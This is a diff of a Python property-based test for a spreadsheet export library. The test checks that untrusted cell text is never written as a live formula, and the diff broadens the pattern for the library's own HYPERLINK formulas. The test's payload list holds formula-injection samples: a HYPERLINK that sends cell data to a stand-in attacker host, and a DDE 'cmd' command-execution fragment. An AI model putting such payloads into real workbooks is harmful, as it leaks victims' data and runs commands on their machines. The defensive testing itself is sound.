@@ -40,9 +40,10 @@ PAYLOADS = ['HYPERLINK("http://evil.example/?x="&A1,"点此付款")', "cmd|' /C 
 hostile = st.builds(lambda p, b, tail: (p + b + tail)[:48], st.sampled_from(PREFIXES), st.sampled_from(PAYLOADS),
                     st.text(alphabet="甲乙,;\"' <>&", max_size=4))
 
-# The only formulas the xlwings route writes: its own internal links, every argument a quoted
-# string literal with its quotes doubled (io/xlbook._link_formula).
-XL_LINK = re.compile(r'=HYPERLINK\("#(?:[^"]|"")*","(?:[^"]|"")*"\)', re.S)
+# The only formulas the xlwings route writes: its own links (to a cell, "#Sheet!A1", or to a
+# statement or letter file), both arguments quoted string literals with their quotes doubled
+# (io/xlbook._link_formula): text from data inside them is never evaluated.
+XL_LINK = re.compile(r'=HYPERLINK\("(?:[^"]|"")*","(?:[^"]|"")*"\)', re.S)
 
 
 class CapturingBook(FileBook):
